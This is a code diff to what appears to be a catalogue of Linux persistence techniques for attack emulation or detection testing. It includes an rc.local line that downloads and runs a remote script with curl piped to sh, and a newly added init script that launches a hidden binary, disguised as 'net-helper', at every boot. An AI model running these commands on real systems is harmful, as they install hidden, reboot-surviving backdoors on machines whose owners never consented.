@@ -169,6 +169,14 @@ export const persistence: Technique[] = [
         script: `printf '#!/bin/sh -e\\n(curl -fsS http://${INTERNET.web}/r | sh) &\\nexit 0\\n' > /etc/rc.local && chmod 755 /etc/rc.local`,
       },
       { name: 'rc.local appended with tee -a', script: "echo 'nohup /var/tmp/.dbus-helper >/dev/null 2>&1 &' | tee -a /etc/rc.local >/dev/null" },
+      {
+        name: 'SysV init script installed with update-rc.d',
+        script: [
+          "printf '#!/bin/sh\\n### BEGIN INIT INFO\\n# Provides: net-helper\\n# Required-Start: $network\\n# Required-Stop:\\n# Default-Start: 2 3 4 5\\n# Default-Stop:\\n### END INIT INFO\\n/var/tmp/.dbus-helper &\\n' > /etc/init.d/net-helper",
+          'chmod 755 /etc/init.d/net-helper',
+          'update-rc.d net-helper defaults >/dev/null 2>&1 || true',
+        ].join('\n'),
+      },
     ],
     benign: { name: 'list boot scripts', script: 'ls -l /etc/init.d >/dev/null; cat /etc/rc.local >/dev/null 2>&1; true' },
   },
